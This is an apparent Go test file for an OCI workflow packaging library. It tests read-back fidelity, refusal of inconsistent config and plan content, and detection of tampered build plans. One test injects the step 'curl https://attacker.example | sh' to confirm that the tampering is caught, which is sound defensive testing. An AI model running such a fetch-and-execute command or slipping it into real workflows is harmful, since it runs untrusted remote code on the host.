package ociwf_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"testing"
	"time"

	"github.com/opencontainers/go-digest"
	"github.com/opencontainers/image-spec/specs-go"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
	"oras.land/oras-go/v2/content/memory"

	"ociwf.dev/ociwf"
	"ociwf.dev/ociwf/errdef"
	"ociwf.dev/ociwf/plan"
	"ociwf.dev/policy/registrytest"
)

// packed packs b into a fresh in-memory store.
func packed(t *testing.T, b *ociwf.Build) (*memory.Store, ocispec.Descriptor) {
	t.Helper()
	mem := memory.New()
	desc, err := ociwf.Pack(context.Background(), mem, b, ociwf.PackOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return mem, desc
}

// withPlan replaces b's plan layer by planJSON and points the config at it.
func withPlan(t *testing.T, b *ociwf.Build, planJSON []byte) *ociwf.Build {
	t.Helper()
	c := *b
	c.PlanJSON = planJSON
	var cfg ociwf.Config
	if err := json.Unmarshal(b.Config, &cfg); err != nil {
		t.Fatal(err)
	}
	cfg.PlanDigest = digest.FromBytes(planJSON).String()
	c.Config, _ = json.Marshal(cfg)
	return &c
}

// editPlan returns b's plan edited and re-encoded canonically.
func editPlan(t *testing.T, b *ociwf.Build, edit func(*plan.Plan)) []byte {
	t.Helper()
	p, err := plan.Decode(b.PlanJSON)
	if err != nil {
		t.Fatal(err)
	}
	edit(p)
	raw, err := p.Encode()
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func TestReadBuildGivesBackWhatWasPushed(t *testing.T) {
	ctx := context.Background()
	created := time.Date(2026, 3, 4, 5, 6, 7, 0, time.UTC)
	want, err := ociwf.Compile(ctx, readSample(t, "build-test-release.yaml"), ociwf.CompileOptions{Created: created})
	if err != nil {
		t.Fatal(err)
	}
	dst := open(t, registrytest.New(t)+"/workflows/readback", false)
	desc, err := ociwf.Push(ctx, dst.Storage, want, "1.4.0", ociwf.PushOptions{})
	if err != nil {
		t.Fatal(err)
	}
	m, got, err := ociwf.ReadBuild(ctx, dst.Storage, desc)
	if err != nil {
		t.Fatal(err)
	}
	for name, pair := range map[string][2][]byte{
		"source": {got.Source, want.Source}, "plan": {got.PlanJSON, want.PlanJSON},
		"SBOM": {got.SBOM, want.SBOM}, "config": {got.Config, want.Config},
	} {
		if !bytes.Equal(pair[0], pair[1]) {
			t.Errorf("the %s read back differs from the one pushed", name)
		}
	}
	if m.Plan.Digest != digest.FromBytes(want.PlanJSON) || got.Workflow.Metadata.Name != want.Workflow.Metadata.Name ||
		len(got.Plan.Steps) != len(want.Plan.Steps) || !got.Created.Equal(created) {
		t.Fatalf("read back %+v, created %s", got.Workflow.Metadata, got.Created)
	}
	// Packing what was read back gives the very same digest.
	if _, again := packed(t, got); again.Digest != desc.Digest {
		t.Fatalf("repacked to %s, pushed as %s", again.Digest, desc.Digest)
	}
	if err := ociwf.Reproduce(ctx, got.Source, got.PlanJSON, got.Plan); err != nil {
		t.Fatal(err)
	}
}

func TestReadBuildRefusesInconsistentContent(t *testing.T) {
	ctx := context.Background()
	b := compileSample(t, "build-test-release.yaml")
	cases := []struct {
		name  string
		build *ociwf.Build
		want  error
		text  string
	}{
		{"config names another plan", func() *ociwf.Build { c := *b; c.Config = withPlan(t, b, []byte("{}")).Config; return &c }(),
			errdef.ErrVerification, "the config names plan"},
		{"plan names another source", withPlan(t, b, editPlan(t, b, func(p *plan.Plan) { p.Source.Size++ })),
			errdef.ErrVerification, "the plan names source"},
		{"plan not canonical", withPlan(t, b, append(bytes.Clone(b.PlanJSON), ' ')),
			errdef.ErrVerification, "does not decode"},
		{"config not JSON", func() *ociwf.Build { c := *b; c.Config = []byte("not json"); return &c }(),
			errdef.ErrNotWorkflow, "config"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			mem, desc := packed(t, c.build)
			_, _, err := ociwf.ReadBuild(ctx, mem, desc)
			if !errors.Is(err, c.want) || !bytes.Contains([]byte(err.Error()), []byte(c.text)) {
				t.Fatalf("err = %v, want %v and %q", err, c.want, c.text)
			}
		})
	}
	t.Run("not a workflow", func(t *testing.T) {
		mem := memory.New()
		cfg := ocispec.DescriptorEmptyJSON
		if err := mem.Push(ctx, cfg, bytes.NewReader(cfg.Data)); err != nil {
			t.Fatal(err)
		}
		raw, _ := json.Marshal(ocispec.Manifest{Versioned: specs.Versioned{SchemaVersion: 2}, MediaType: ocispec.MediaTypeImageManifest, Config: cfg, Layers: []ocispec.Descriptor{}})
		desc := ocispec.Descriptor{MediaType: ocispec.MediaTypeImageManifest, Digest: digest.FromBytes(raw), Size: int64(len(raw))}
		if err := mem.Push(ctx, desc, bytes.NewReader(raw)); err != nil {
			t.Fatal(err)
		}
		if _, _, err := ociwf.ReadBuild(ctx, mem, desc); !errors.Is(err, errdef.ErrNotWorkflow) {
			t.Fatalf("err = %v, want ErrNotWorkflow", err)
		}
	})
}

func TestReproduceRefusesAPlanItsSourceDoesNotCompileTo(t *testing.T) {
	ctx := context.Background()
	b := compileSample(t, "build-test-release.yaml")
	edited := editPlan(t, b, func(p *plan.Plan) { p.Steps[0].Run = "curl https://attacker.example | sh" })
	p, err := plan.Decode(edited)
	if err != nil {
		t.Fatal(err)
	}
	err = ociwf.Reproduce(ctx, b.Source, edited, p)
	var irr *ociwf.IrreproducibleError
	if !errors.As(err, &irr) || !errors.Is(err, errdef.ErrVerification) ||
		irr.Plan != digest.FromBytes(edited) || irr.Recompiled != digest.FromBytes(b.PlanJSON) || irr.Err != nil {
		t.Fatalf("edited plan: err = %#v", err)
	}

	err = ociwf.Reproduce(ctx, []byte("name: [unterminated"), b.PlanJSON, b.Plan)
	if !errors.As(err, &irr) || !errors.Is(err, errdef.ErrVerification) || irr.Err == nil || irr.Recompiled != "" {
		t.Fatalf("source that does not compile: err = %#v", err)
	}
	// A compile error's own class does not leak through: the stored plan
	// is unverified, nothing else.
	if errors.Is(err, errdef.ErrInvalid) {
		t.Fatalf("err %v matches ErrInvalid", err)
	}

}
